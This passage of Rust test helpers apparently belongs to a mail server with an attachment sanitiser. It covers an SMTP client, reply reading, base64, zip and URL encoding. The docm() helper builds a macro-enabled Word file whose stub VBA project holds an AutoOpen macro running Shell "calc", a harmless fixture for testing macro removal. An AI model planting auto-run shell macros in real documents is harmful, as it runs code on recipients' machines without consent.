            f.write_all(&m.data).expect("message write");
            p
        })
        .collect()
}

/// Reads an SMTP reply stream until the peer closes it (bounded by `limit`).
pub fn read_all(stream: &mut TcpStream, limit: Duration) -> Vec<u8> {
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .expect("read timeout");
    let end = Instant::now() + limit;
    let mut all = Vec::new();
    let mut buf = [0u8; 4096];
    while Instant::now() < end {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => all.extend_from_slice(&buf[..n]),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => break,
        }
    }
    all
}

// ---------------------------------------------------------------------------------------------
// A plain SMTP client for tests that need per-transaction replies.

/// Sends one message in its own connection (EHLO, MAIL, RCPT..., DATA, QUIT), bounded by
/// `limit` per read. Returns the reply code to the end of data, or a description of the first
/// unexpected reply or I/O error. `data` must use CRLF and must not contain a line with a lone
/// dot (no dot-stuffing is done).
pub fn smtp_send(
    addr: SocketAddr,
    from: &str,
    rcpts: &[&str],
    data: &[u8],
    limit: Duration,
) -> Result<u16, String> {
    fn reply(r: &mut std::io::BufReader<TcpStream>) -> Result<(u16, String), String> {
        use std::io::BufRead;
        let mut text = String::new();
        loop {
            let mut line = String::new();
            let n = r.read_line(&mut line).map_err(|e| format!("read: {e}"))?;
            if n == 0 {
                return Err(format!("connection closed after {text:?}"));
            }
            text.push_str(&line);
            if line.len() < 4 || line.as_bytes()[3] != b'-' {
                let code = line.get(..3).and_then(|c| c.parse().ok()).unwrap_or(0);
                return Ok((code, text));
            }
        }
    }
    let stream = TcpStream::connect_timeout(&addr, limit).map_err(|e| format!("connect: {e}"))?;
    stream.set_read_timeout(Some(limit)).ok();
    stream.set_write_timeout(Some(limit)).ok();
    let mut w = stream.try_clone().map_err(|e| e.to_string())?;
    let mut r = std::io::BufReader::new(stream);
    let mut step = |cmd: Option<&[u8]>, want: u16| -> Result<u16, String> {
        if let Some(c) = cmd {
            w.write_all(c).map_err(|e| format!("write: {e}"))?;
        }
        let (code, text) = reply(&mut r)?;
        if code / 100 != want / 100 {
            return Err(format!(
                "{}: {}",
                String::from_utf8_lossy(cmd.unwrap_or(b"greeting")).trim(),
                text.trim()
            ));
        }
        Ok(code)
    };
    step(None, 220)?;
    step(Some(b"EHLO client.test\r\n"), 250)?;
    step(Some(format!("MAIL FROM:<{from}>\r\n").as_bytes()), 250)?;
    for rcpt in rcpts {
        step(Some(format!("RCPT TO:<{rcpt}>\r\n").as_bytes()), 250)?;
    }
    step(Some(b"DATA\r\n"), 354)?;
    let mut body = data.to_vec();
    if !body.ends_with(b"\r\n") {
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b".\r\n");
    let code = step(Some(&body), 250)?;
    let _ = step(Some(b"QUIT\r\n"), 221);
    Ok(code)
}

// ---------------------------------------------------------------------------------------------
// Attachments for end-to-end tests.

/// Base64 in 76-character CRLF lines, as a MIME body.
pub fn b64(data: &[u8]) -> String {
    use base64::Engine;
    let e = base64::engine::general_purpose::STANDARD.encode(data);
    e.as_bytes()
        .chunks(76)
        .map(|c| format!("{}\r\n", String::from_utf8_lossy(c)))
        .collect()
}

/// A deflated zip of `members`.
pub fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opt = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for (name, data) in members {
        w.start_file(*name, opt).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// A macro-enabled Word document whose body is `text`, with a VBA project and its relationship
/// (what the sanitiser must take out).
pub fn docm(text: &str) -> Vec<u8> {
    let doc = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    );
    zip_of(&[
        ("[Content_Types].xml", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"),
        ("_rels/.rels", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
        ("word/document.xml", doc.as_bytes()),
        ("word/_rels/document.xml.rels", b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/></Relationships>"),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen() Shell \"calc\" End Sub"),
    ])
}

/// `application/x-www-form-urlencoded` value encoding.
pub fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}
